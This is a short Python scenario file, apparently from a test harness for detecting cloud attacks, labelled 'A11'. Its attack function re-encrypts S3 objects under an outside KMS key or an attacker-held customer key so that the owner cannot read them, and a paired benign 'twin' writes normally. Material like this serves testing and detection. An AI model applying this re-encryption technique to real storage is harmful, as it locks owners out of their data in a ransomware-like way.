"""A11: write own objects anew under a key that only the attacker holds, so that nobody else can read them.

Why unlabelled: it is not what they say that is lost.
"""

import base64
import hashlib

THEIRS = "arn:aws:kms:us-east-1:999999999999:key/11111111-2222-3333-4444-555555555555"
KEY = hashlib.sha256(b"his").digest()


def attack(hands):
    text = hands.plain()
    hands.call("s3", "PutObject", Bucket="kept-files", Key=hands.trial, Body=text.encode())
    source = f"kept-files/{hands.trial}"
    place = {"Bucket": "kept-files", "CopySource": source}
    hands.call("s3", "CopyObject", Key=text, ServerSideEncryption="aws:kms", SSEKMSKeyId=THEIRS, **place)
    told = {"SSECustomerAlgorithm": "AES256", "SSECustomerKey": KEY}
    if hands.way == "signed":  # an SDK writes the key and its hash for itself
        told["SSECustomerKey"] = base64.b64encode(KEY).decode()
        told["SSECustomerKeyMD5"] = base64.b64encode(hashlib.md5(KEY).digest()).decode()
    hands.call("s3", "PutObject", Bucket="kept-copies", Key=text, Body=text.encode(), **told)


def twin(hands):
    text = hands.secret()
    kept = {"Bucket": "kept-files", "Key": hands.trial, "Body": text.encode()}
    hands.call("s3", "PutObject", ServerSideEncryption="AES256", **kept)
